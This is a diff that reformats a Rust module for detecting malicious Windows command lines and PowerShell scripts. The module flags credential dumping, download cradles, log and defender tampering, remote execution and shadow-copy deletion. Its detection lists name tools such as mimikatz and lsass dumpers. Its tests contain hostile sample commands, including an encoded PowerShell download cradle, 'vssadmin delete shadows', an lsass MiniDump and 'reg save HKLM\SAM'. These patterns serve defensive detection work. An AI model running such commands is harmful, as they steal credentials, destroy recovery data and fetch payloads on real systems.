@@ -72,8 +72,19 @@ pub fn program(path: &str) -> String {
 /// Whether a program runs what it is given.
 pub fn is_interpreter(name: &str) -> bool {
     const NAMES: [&str; 13] = [
-        "cmd", "powershell", "powershell_ise", "pwsh", "wscript", "cscript", "mshta", "rundll32", "regsvr32", "bash", "python",
-        "msbuild", "installutil",
+        "cmd",
+        "powershell",
+        "powershell_ise",
+        "pwsh",
+        "wscript",
+        "cscript",
+        "mshta",
+        "rundll32",
+        "regsvr32",
+        "bash",
+        "python",
+        "msbuild",
+        "installutil",
     ];
     NAMES.contains(&name)
 }
@@ -81,8 +92,19 @@ pub fn is_interpreter(name: &str) -> bool {
 /// Whether a program opens what others send.
 fn is_reader(name: &str) -> bool {
     const NAMES: [&str; 13] = [
-        "winword", "excel", "powerpnt", "outlook", "onenote", "msaccess", "mspub", "visio", "acrord32", "acrobat", "foxitreader",
-        "wordpad", "thunderbird",
+        "winword",
+        "excel",
+        "powerpnt",
+        "outlook",
+        "onenote",
+        "msaccess",
+        "mspub",
+        "visio",
+        "acrord32",
+        "acrobat",
+        "foxitreader",
+        "wordpad",
+        "thunderbird",
     ];
     NAMES.contains(&name)
 }
@@ -90,8 +112,18 @@ fn is_reader(name: &str) -> bool {
 /// Whether anybody who is logged on may write there.
 pub fn is_writable(path: &str) -> bool {
     const PLACES: [&str; 12] = [
-        "\\appdata\\", "\\temp\\", "\\tmp\\", "\\users\\public\\", "\\downloads\\", "\\$recycle.bin\\", "\\perflogs\\", "%temp%",
-        "%appdata%", "%localappdata%", "%public%", "\\windows\\tasks\\",
+        "\\appdata\\",
+        "\\temp\\",
+        "\\tmp\\",
+        "\\users\\public\\",
+        "\\downloads\\",
+        "\\$recycle.bin\\",
+        "\\perflogs\\",
+        "%temp%",
+        "%appdata%",
+        "%localappdata%",
+        "%public%",
+        "\\windows\\tasks\\",
     ];
     let path = path.to_ascii_lowercase().replace('/', "\\");
     PLACES.iter().any(|p| path.contains(p))
@@ -110,7 +142,18 @@ pub fn is_made_up(name: &str) -> bool {
     let lower = name.to_ascii_lowercase();
     let vowel = |b: u8| matches!(b, b'a' | b'e' | b'i' | b'o' | b'u' | b'y');
     let mut run = 0;
-    let longest = lower.bytes().map(|b| if b.is_ascii_alphabetic() && !vowel(b) { run += 1; run } else { run = 0; 0 }).max();
+    let longest = lower
+        .bytes()
+        .map(|b| {
+            if b.is_ascii_alphabetic() && !vowel(b) {
+                run += 1;
+                run
+            } else {
+                run = 0;
+                0
+            }
+        })
+        .max();
     longest.unwrap_or(0) >= 5 || changes * 2 >= name.len() || changes * 3 >= name.len() && longest.unwrap_or(0) >= 4
 }
 
@@ -162,8 +205,10 @@ fn command(line: &str, level: usize, found: &mut BTreeSet<Sign>) {
             let at = lower.iter().position(|w| matches!(w.get(..2), Some("/c" | "/k" | "/r")));
             if let Some(at) = at {
                 let head = rest[at].get(2..).unwrap_or_default().to_string();
-                let inner: Vec<&str> =
-                    std::iter::once(head.as_str()).chain(rest[at + 1..].iter().map(String::as_str)).filter(|w| !w.is_empty()).collect();
+                let inner: Vec<&str> = std::iter::once(head.as_str())
+                    .chain(rest[at + 1..].iter().map(String::as_str))
+                    .filter(|w| !w.is_empty())
+                    .collect();
                 let inner = inner.join(" ");
                 inner.split(['&', '|']).for_each(|one| command(one, level + 1, found));
             }
@@ -218,8 +263,12 @@ fn command(line: &str, level: usize, found: &mut BTreeSet<Sign>) {
                 found.extend([Sign::ByProxy, Sign::Download]);
             }
         }
-        "winrs" if lower.iter().any(|w| w.starts_with("-r:") || w.starts_with("/r:")) => drop(found.insert(Sign::Remote)),
-        "psexec" | "psexec64" | "paexec" if lower.iter().any(|w| w.starts_with("\\\\")) => drop(found.insert(Sign::Remote)),
+        "winrs" if lower.iter().any(|w| w.starts_with("-r:") || w.starts_with("/r:")) => {
+            drop(found.insert(Sign::Remote))
+        }
+        "psexec" | "psexec64" | "paexec" if lower.iter().any(|w| w.starts_with("\\\\")) => {
+            drop(found.insert(Sign::Remote))
+        }
         "schtasks" => {
             if lower.iter().any(|w| w == "/s") && has("/create") {
                 found.insert(Sign::Remote);
@@ -240,12 +289,15 @@ fn command(line: &str, level: usize, found: &mut BTreeSet<Sign>) {
         "net" | "net1" if has("stop") && (has("windefend") || has("eventlog") || has("sysmon")) => {
             found.insert(Sign::Blinds);
         }
-        "auditpol" if has("/clear") || has("/success:disable") || has("/failure:disable") => drop(found.insert(Sign::Blinds)),
+        "auditpol" if has("/clear") || has("/success:disable") || has("/failure:disable") => {
+            drop(found.insert(Sign::Blinds))
+        }
         "netsh" if has("advfirewall") && has("state") && has("off") => drop(found.insert(Sign::Blinds)),
         "reg" => {
             let hive = |w: &String| {
                 let key = w.trim_end_matches('\\').rsplit('\\').next().unwrap_or_default();
-                matches!(key, "sam" | "system" | "security") && (w.starts_with("hklm") || w.starts_with("hkey_local_machine"))
+                matches!(key, "sam" | "system" | "security")
+                    && (w.starts_with("hklm") || w.starts_with("hkey_local_machine"))
             };
             if has("save") && lower.iter().any(hive) {
                 found.insert(Sign::Credentials);
@@ -256,7 +308,9 @@ fn command(line: &str, level: usize, found: &mut BTreeSet<Sign>) {
         }
         "procdump" | "procdump64" if has("lsass") => drop(found.insert(Sign::Credentials)),
         "ntdsutil" if has("ifm") || has("ntds") => drop(found.insert(Sign::Credentials)),
-        "mimikatz" | "lazagne" | "secretsdump" | "gsecdump" | "pwdump" | "nanodump" => drop(found.insert(Sign::Credentials)),
+        "mimikatz" | "lazagne" | "secretsdump" | "gsecdump" | "pwdump" | "nanodump" => {
+            drop(found.insert(Sign::Credentials))
+        }
         _ => {}
     }
     if ["sekurlsa::", "lsadump::", "kerberos::ptt", "privilege::debug", "crypto::"].iter().any(|w| has(w)) {
@@ -362,7 +416,12 @@ fn script(text: &str, level: usize, found: &mut BTreeSet<Sign>) {
         })
     };
     let fetches = any(&[".downloadstring(", ".downloadfile(", ".downloaddata(", "start-bitstransfer"])
-        || (word("invoke-webrequest") || word("iwr") || word("wget") || word("curl") || word("invoke-restmethod") || word("irm"))
+        || (word("invoke-webrequest")
+            || word("iwr")
+            || word("wget")
+            || word("curl")
+            || word("invoke-restmethod")
+            || word("irm"))
             && has("http");
     let runs = word("iex") || word("invoke-expression") || has("[scriptblock]::create(");
     let unpacks = has("frombase64string(");
@@ -390,8 +449,15 @@ fn script(text: &str, level: usize, found: &mut BTreeSet<Sign>) {
         found.insert(Sign::Blinds);
     }
     if any(&[
-        "sekurlsa", "lsadump", "invoke-mimikatz", "out-minidump", "invoke-kerberoast", "invoke-dcsync", "get-gpppassword",
-        "invoke-ntdsdump", "dump-chromepasswords",
+        "sekurlsa",
+        "lsadump",
+        "invoke-mimikatz",
+        "out-minidump",
+        "invoke-kerberoast",
+        "invoke-dcsync",
+        "get-gpppassword",
+        "invoke-ntdsdump",
+        "dump-chromepasswords",
     ]) || has("lsass") && any(&["minidump", "comsvcs", "readprocessmemory"])
     {
         found.insert(Sign::Credentials);
@@ -402,14 +468,19 @@ fn script(text: &str, level: usize, found: &mut BTreeSet<Sign>) {
     if has("win32_shadowcopy") && any(&["delete(", "remove-wmiobject", "remove-ciminstance"]) {
         found.insert(Sign::NoRecovery);
     }
-    if (word("invoke-command") || word("new-pssession") || word("enter-pssession")) && has("-computername") && has("-credential") {
+    if (word("invoke-command") || word("new-pssession") || word("enter-pssession"))
+        && has("-computername")
+        && has("-credential")
+    {
         found.insert(Sign::Remote);
     }
     // A command line within.
     for part in text.split(['\n', ';', '|', '{']) {
         let part = part.trim().trim_start_matches(['&', ' ']);
         let name = program(&first(part));
-        if is_interpreter(&name) || matches!(name.as_str(), "vssadmin" | "wevtutil" | "certutil" | "bitsadmin" | "reg" | "schtasks") {
+        if is_interpreter(&name)
+            || matches!(name.as_str(), "vssadmin" | "wevtutil" | "certutil" | "bitsadmin" | "reg" | "schtasks")
+        {
             command(part, level + 1, found);
         }
     }
@@ -427,7 +498,10 @@ mod tests {
     fn commands_are_read_as_their_programs_read_them() {
         let encoded = "powershell -nop -w hidden -ep bypass -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA";
         assert_eq!(told(encoded), "encoded download runs_text hidden");
-        assert_eq!(told("cmd.exe /c \"p^o^w^e^r^s^h^e^l^l -EncodedC AAAA & vssadmin delete shadows /all\""), "encoded no_recovery");
+        assert_eq!(
+            told("cmd.exe /c \"p^o^w^e^r^s^h^e^l^l -EncodedC AAAA & vssadmin delete shadows /all\""),
+            "encoded no_recovery"
+        );
         assert_eq!(told(r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\x.dmp full"), "credentials");
         assert_eq!(told(r"C:\Windows\System32\reg.exe save HKLM\SAM sam.hiv"), "credentials");
         assert_eq!(told("certutil –urlcache -split -f http://x/y y.exe"), "download by_proxy");
@@ -446,7 +520,16 @@ mod tests {
 
     #[test]
     fn names_made_up_by_machines() {
-        for name in ["BTOBTO", "spoolsv", "MpKsl4eaa0a76", "PSEXESVC", "VBoxService", "gupdate", "WinDefend", "TrustedInstaller"] {
+        for name in [
+            "BTOBTO",
+            "spoolsv",
+            "MpKsl4eaa0a76",
+            "PSEXESVC",
+            "VBoxService",
+            "gupdate",
+            "WinDefend",
+            "TrustedInstaller",
+        ] {
             assert!(!is_made_up(name), "{name}");
         }
         for name in ["xkQzWpLr", "aBcDeFgH", "hbQtZkWv"] {
